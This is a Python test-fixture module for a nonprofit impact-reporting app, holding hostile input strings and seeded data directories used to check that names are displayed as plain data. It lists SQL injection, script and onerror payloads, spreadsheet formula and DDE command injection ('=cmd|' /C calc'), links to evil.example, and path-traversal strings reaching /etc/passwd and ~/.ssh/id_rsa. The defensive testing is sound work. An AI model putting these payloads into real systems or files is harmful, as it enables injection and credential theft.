"""Hostile inputs, shared by the security tests: the classes of string an attacker (or a
careless spreadsheet) puts into names, URL parameters and command-line options, and a data
directory whose names are such strings.

The names are written straight into storage (as data imported before the importer refused
control characters would be), so the display side is tested on its own.
"""

from __future__ import annotations

import re
import shutil
from datetime import date
from decimal import Decimal
from pathlib import Path

import pyarrow as pa

from impact.storage.schema import TABLES
from impact.storage import compaction
from impact.storage.store import DataStore

ROOT = Path(__file__).resolve().parent.parent

EVIL_LINK = '<a href="https://evil.example/">点击领取</a>'
EVIL_SCRIPT = '<script>window.__pwned=1</script><img src=x onerror="window.__pwned=2">'
EVIL_MARKDOWN = "[点我](https://evil.example/md) **粗体** `code` $x$"
RTL = "\u202etxt.exe"
FORMULA = '=HYPERLINK("http://evil.example/"&A1,"click")'
FORMULA_CMD = "=cmd|' /C calc'!A0"

# Input classes and examples: every one must be treated as plain data, everywhere.
INPUTS = {
    "sql injection": ["' OR 1=1 --", "珠海协作者'; DROP TABLE activities; --",
                      "1; SELECT * FROM finance", '" OR ""="'],
    "html/script": [EVIL_LINK, EVIL_SCRIPT, "<b>bold</b>", "javascript:alert(1)"],
    "markdown": [EVIL_MARKDOWN],
    "formula": [FORMULA, FORMULA_CMD, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"],
    "very long": ["长" * 5000, "x" * 100_000],
    "unicode oddities": [RTL, "\u200f\u200e\u2066x\u2069", "\x00", "a\x00b", "e\u0301\u0301\u0301",
                         "\ufeff", "\U0001f600" * 50, "\ud7ff"],
    "path-like": ["../../etc/passwd", "/etc/passwd", "..\\..\\windows\\win.ini", "data/../..",
                  "file:///etc/passwd", "s3://bucket/x", "~/.ssh/id_rsa", "NUL", "con"],
    "format strings": ["{0}", "{lang}", "%s%s%s", "%{y}", "${HOME}"],
    "numbers": ["-1", "0", "99999999999999999999", "1e309", "NaN", "2020.5", "２０２０"],
    "empty": ["", " ", "\n"],
}


def all_inputs() -> list[tuple[str, str]]:
    return [(cls, value) for cls, values in INPUTS.items() for value in values]


def hostile_data(target: Path) -> Path:
    """A copy of the demo data plus 2020 records of 珠海协作者 whose names are hostile, large
    enough (40,000 person-times) to be among the projects a capped chart draws."""
    shutil.copytree(ROOT / "data", target)
    store = DataStore(target)
    names = [(EVIL_LINK, EVIL_SCRIPT), (EVIL_MARKDOWN, "儿童服务"), (RTL, FORMULA)]
    acts = [{"activity_id": f"EVIL-{i}", "date": date(2020, 6, 1 + i), "org": "珠海协作者",
             "project": project, "program_area": area, "activity_type": FORMULA_CMD,
             "sessions": 3, "beneficiaries": 40_000 + i, "volunteers": 9,
             "volunteer_minutes": 600}
            for i, (project, area) in enumerate(names)]
    # An organisation whose name is a formula, with a NUL in a project name (openpyxl used to
    # raise IllegalCharacterError on it and take the /report page down for everyone).
    acts.append({"activity_id": "EVIL-ORG", "date": date(2020, 7, 1), "org": FORMULA_CMD,
                 "project": "a\x00b", "program_area": None, "activity_type": None,
                 "sessions": 1, "beneficiaries": 3, "volunteers": 0, "volunteer_minutes": 0})
    compaction.append(store, "activities", pa.Table.from_pylist(acts,
                                                    schema=TABLES["activities"].arrow_schema))
    money = [{"txn_id": f"EVIL-F{i}", "date": date(2020, 6, 1 + i), "org": "珠海协作者",
              "flow": "income", "line": "donation", "source_type": "enterprise",
              "funder": funder,
              "project": EVIL_LINK, "restricted": True, "amount": Decimal("1000.00")}
             for i, funder in enumerate((FORMULA, FORMULA_CMD, EVIL_LINK, RTL))]
    compaction.append(store, "finance", pa.Table.from_pylist(money, schema=TABLES["finance"].arrow_schema))
    return target


# -- names that become markup where Markdown is rendered (issue 27 item 1) ----------------

EVIL_MD_LINK = "[点此领取退款](https://evil.example/login)"
EVIL_BARE_URL = "退款 https://evil.example/bare"
MARKUP_NAMES = (EVIL_MD_LINK, EVIL_BARE_URL, EVIL_LINK, ":red[红色] **粗体** _斜_")


_RAW_TAG = re.compile(r"(?<!\\)<(a[\s>]|script|img)", re.IGNORECASE)


def markup_leaks(at) -> list[str]:
    """Every text an AppTest run shows as Markdown where a hostile name became markup: a
    link (Markdown, bare URL or HTML), an image or a script. Escaped text reads
    `evil\\.example`, so the literal host never survives escaping."""
    found = []
    for kind in ("markdown", "caption", "warning", "info", "error", "success", "title",
                 "header", "subheader", "toast"):
        for element in getattr(at, kind, []):
            text = str(element.value)
            html = bool(getattr(element.proto, "allow_html", False))
            raw_tag = _RAW_TAG.search(text)  # `\<a` is escaped: shown, not a tag
            if raw_tag or (not html and ("evil.example" in text or ":red[" in text)):
                found.append(f"{kind}: {text[:160]}")
    for metric in at.metric:
        if "evil.example" in str(metric.label) or _RAW_TAG.search(str(metric.label)):
            found.append(f"metric label: {metric.label}")
    for chart in at.get("plotly_chart"):
        if _RAW_TAG.search(chart.proto.spec):
            found.append("plotly chart: a live <a> tag")
    return found


def markup_data(target: Path, start: int = 2019) -> Path:
    """A small data directory whose organisations, projects, funders, groups and outcome
    projects are `MARKUP_NAMES`, shaped so that every notice fires: two organisations
    covering different years (the coverage note), one funder giving most of the income
    (the single-donor warning), a grant with a co-funder and activity outside its period,
    stated reach (the people lines) and outcomes (the results headings)."""
    from impact.storage.directory import init_data_dir

    init_data_dir(str(target))
    store = DataStore(target)
    evil, bare, link, colour = MARKUP_NAMES
    acts, money = [], []
    for n, (org, years) in enumerate([(evil, (start, start + 1)), (bare, (start + 1,))]):
        for year in years:
            for month in (3, 9):
                acts.append({"activity_id": f"A{n}{year}{month}", "date": date(year, month, 1),
                             "org": org, "project": link if month == 3 else evil,
                             "program_area": colour, "activity_type": evil, "sessions": 2,
                             "beneficiaries": 30 + month, "volunteers": 2,
                             "volunteer_minutes": 120})
            for i, (funder, amount) in enumerate([(evil, "9000.00"), (bare, "100.00")]):
                money.append({"txn_id": f"F{n}{year}{i}", "date": date(year, 5, 1), "org": org,
                              "flow": "income", "line": "donation",
                              "source_type": "foundation", "funder": funder,
                              "project": evil, "restricted": True,
                              "grant_id": f"G{i}" if n == 0 else None,
                              "amount": Decimal(amount)})
            money.append({"txn_id": f"E{n}{year}", "date": date(year, 6, 1), "org": org,
                          "flow": "expense", "line": "program", "source_type": None,
                          "funder": None, "project": evil, "restricted": False,
                          "grant_id": None, "amount": Decimal("500.00")})
    last = start + 1
    rows = {
        "activities": acts, "finance": money,
        "grants": [{"grant_id": f"G{i}", "org": evil, "funder": funder, "title": link,
                    "amount": Decimal("5000.00"), "start_date": date(last, 1, 1),
                    "end_date": date(last, 6, 30), "restricted": True}
                   for i, funder in enumerate((evil, bare))],
        "grant_projects": [{"org": evil, "grant_id": f"G{i}", "project": evil} for i in (0, 1)],
        "targets": [{"org": evil, "project": evil, "year": last, "metric": "beneficiaries",
                     "target": Decimal("1000"), "grant_id": "G0"}],
        "reach": [{"org": evil, "project": evil, "year": last, "beneficiary_group": colour,
                   "people": 40, "households": 12, "source": link}],
        "outcomes": [{"org": evil, "project": link, "year": last, "indicator": evil,
                      "unit": bare, "baseline": Decimal("1"), "target": Decimal("3"),
                      "actual": Decimal("2"), "source": evil}],
        "budgets": [{"org": evil, "project": evil, "grant_id": "G0", "year": last,
                     "line": "program", "amount": Decimal("100.00")}],
    }
    for table, records in rows.items():
        compaction.append(store, table, pa.Table.from_pylist(
            records, schema=TABLES[table].arrow_schema))
    return target
